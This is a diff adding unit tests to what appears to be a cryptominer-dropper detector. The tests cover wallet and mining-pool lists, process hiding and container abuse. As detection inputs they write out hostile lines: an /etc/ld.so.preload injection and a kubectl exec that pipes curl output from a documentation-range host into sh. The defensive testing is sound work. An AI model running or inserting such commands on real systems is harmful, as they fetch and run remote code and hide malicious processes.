@@ -159,3 +159,36 @@ def test_powershell_encoded_command_utf16() -> None:
 )
 def test_ordinary_admin_lines_score_nothing(line: str) -> None:
     assert dropper.analyse(line, IT).severity is None
+
+
+def _list_severity(text: str) -> object:
+    from minehunt.web.signals import target_for
+
+    sigs = dropper.wallet_list(target_for("/x/list.txt"), text, IT, "/x/list.txt")
+    return sigs[0].severity if sigs else None
+
+
+def test_wallet_and_pool_lists_are_their_own_finding() -> None:
+    from minehunt.model import Severity
+
+    assert _list_severity(f"{WALLET}\n{WALLET[:-1]}A\n") == Severity.MEDIUM
+    assert _list_severity("stratum+tcp://192.0.2.7:3333\nstratum+ssl://192.0.2.8:14433\n") == (
+        Severity.MEDIUM
+    )
+    hashes = "\n".join(f"{i:064x}  file{i}.tar.gz" for i in range(1, 20))
+    assert _list_severity(hashes) is None
+    prose = "Our wallet lives at\n" + WALLET + "\nand donations are welcome.\nThanks!\n"
+    assert _list_severity(prose) is None
+
+
+def test_evidence_points_at_the_line() -> None:
+    text = "#!/bin/sh\n# setup\n\necho /usr/lib/x.so > /etc/ld.so.preload\n"
+    a = dropper.analyse(text, IT)
+    hide = next(s for s in a.behaviours if s.behaviour is B.HIDE_PROCESSES)
+    assert hide.hits[0].line == 4
+
+
+def test_kubectl_exec_of_a_fetch_is_container_abuse() -> None:
+    snippet = 'kubectl exec -n default $pod -- sh -c "curl -s http://192.0.2.1/k.sh | sh"'
+    kinds = {s.behaviour for s in dropper.analyse(snippet, IT).behaviours}
+    assert {B.CONTAINER_ABUSE, B.DOWNLOAD_EXEC} <= kinds
